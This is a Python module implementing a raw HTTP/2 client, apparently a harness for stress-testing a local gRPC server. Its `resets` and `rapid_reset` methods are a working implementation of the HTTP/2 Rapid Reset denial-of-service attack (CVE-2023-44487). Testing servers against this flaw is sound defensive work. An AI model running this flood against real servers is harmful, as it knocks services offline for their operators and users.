"""A client that speaks HTTP/2 by hand (RFC 9113, RFC 7541), to do what no gRPC client would."""

import select
import socket
import struct
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MAX_CONCURRENT_STREAMS = 3  # in SETTINGS
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = struct.pack(">I", 8)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_string(text):
    """Without Huffman coding (section 5.2)."""
    text = text.encode() if isinstance(text, str) else text
    size = len(text)
    if size < 127:
        return bytes([size]) + text
    prefix, size = b"\x7f", size - 127
    while size >= 128:
        prefix, size = prefix + bytes([128 + size % 128]), size // 128
    return prefix + bytes([size]) + text


def hpack_field(name, value, indexed=False):
    """A literal with a new name, added to the peer's table or not (sections 6.2.1 and 6.2.2)."""
    return (b"\x40" if indexed else b"\x00") + hpack_string(name) + hpack_string(value)


def request_fields(path, scheme="http", te="trailers", more=()):
    return [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", "localhost"), ("te", te),
            ("content-type", "application/grpc"), *more]


class Connection:
    """A connection whose preface has been sent. Sends whatever it is told to, in whatever order."""

    FIRST_DYNAMIC_INDEX = 62  # of HPACK's table

    def __init__(self, port, preface=PREFACE + frame(SETTINGS, 0, 0), source="127.0.0.1"):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
        self.received = b""
        self.closed = False  # by the peer
        self.next_stream = 1
        try:
            self.socket.sendall(preface)
        except OSError:
            self.socket.close()
            raise

    def close(self):
        self.socket.close()

    def _ready(self, events, timeout):
        """Which of poll(2)'s events the socket is ready for. select(2) takes no descriptor above 1023."""
        poll = select.poll()
        poll.register(self.socket, events)
        return sum(ready for _, ready in poll.poll(timeout * 1000))

    def receive(self, timeout):
        """Reads what comes next, within `timeout`; whether anything came."""
        if self.closed or not self._ready(select.POLLIN, timeout):
            return False
        try:
            data = self.socket.recv(1 << 16)
        except ConnectionError:
            data = b""
        self.closed = not data
        self.received = (self.received + data)[-(1 << 20):]
        return bool(data)

    def drain(self, timeout=0.0):
        """Reads what has come, up to `timeout` after the last of it; whether there was anything."""
        any_at_all = False
        while self.receive(timeout):
            any_at_all = True
        return any_at_all

    def send(self, data, patience=10):
        """Sends all of it, reading meanwhile, as a peer that stops reading would stop us. Whether it was taken."""
        view = memoryview(data)
        self.socket.setblocking(False)
        deadline = time.monotonic() + patience
        try:
            while view and not self.closed:
                ready = self._ready(select.POLLIN | select.POLLOUT, 1)
                if ready & ~select.POLLOUT:
                    self.drain()
                if ready & select.POLLOUT:
                    try:
                        view = view[self.socket.send(view):]
                    except BlockingIOError:
                        pass
                    except ConnectionError:
                        self.closed = True
                if time.monotonic() > deadline:
                    return False
        finally:
            self.socket.setblocking(True)
        return not self.closed

    def take_stream(self):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        return stream

    def index_request(self, path, **fields):
        """A header block that makes the peer remember a request's fields, and the block that repeats them."""
        fields = request_fields(path, **fields)
        first = self.FIRST_DYNAMIC_INDEX
        # The newest entry has the lowest index.
        return (b"".join(hpack_field(name, value, indexed=True) for name, value in fields),
                bytes(0x80 | (first + len(fields) - 1 - i) for i in range(len(fields))))

    def resets(self, path, count, **fields):
        """The bytes that open so many streams and cancel them at once (CVE-2023-44487)."""
        return self._resets(count, *self.index_request(path, **fields))

    def _resets(self, count, block, repeated):
        out = bytearray()
        for _ in range(count):
            stream = self.take_stream()
            out += frame(HEADERS, END_HEADERS, stream, block)
            out += frame(RST_STREAM, 0, stream, CANCEL)
            block = repeated
        return bytes(out)

    def rapid_reset(self, path, seconds, batch=500, **fields):
        """Sends such streams as fast as the peer reads. How many."""
        block, repeated = self.index_request(path, **fields)
        count = 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.closed:
            if not self.send(self._resets(batch, block, repeated)):
                break
            block = repeated
            count += batch
        return count

    def call(self, path, message=b"", fields=(), timeout=10, **request):
        """One unary call; the bytes received until it ended or `timeout` passed."""
        stream = self.take_stream()
        block = b"".join(hpack_field(*field) for field in request_fields(path, more=fields, **request))
        out = b""
        for at in range(0, len(block), 16384):
            last = at + 16384 >= len(block)
            out += frame(HEADERS if at == 0 else 9, END_HEADERS if last else 0, stream, block[at:at + 16384])
        out += frame(DATA, END_STREAM, stream, b"\0" + struct.pack(">I", len(message)) + message)
        self.received = b""
        self.send(out)
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline and not self.has_ended(stream):
            self.receive(0.05)
        return self.received

    def has_ended(self, wanted):
        """Whether a frame has come that ends the stream, or the connection for streams like it."""
        for kind, flags, stream, payload in frames(self.received):
            if stream == wanted and (kind == RST_STREAM or kind in (HEADERS, DATA) and flags & END_STREAM):
                return True
            if kind == GOAWAY and struct.unpack(">I", payload[:4])[0] < wanted:
                return True
        return False


def frames(received):
    """The complete frames in `received`."""
    at = 0
    while at + 9 <= len(received):
        size = int.from_bytes(received[at:at + 3], "big")
        if at + 9 + size > len(received):
            return
        yield (received[at + 3], received[at + 4], int.from_bytes(received[at + 5:at + 9], "big") & 0x7fffffff,
               received[at + 9:at + 9 + size])
        at += 9 + size


def has_grpc_status(received, status):
    return hpack_string("grpc-status") + hpack_string(str(status)) in received


def resident_mib(pid):
    """What the process has in memory."""
    with open(f"/proc/{pid}/status", encoding="ascii") as file:
        for line in file:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")
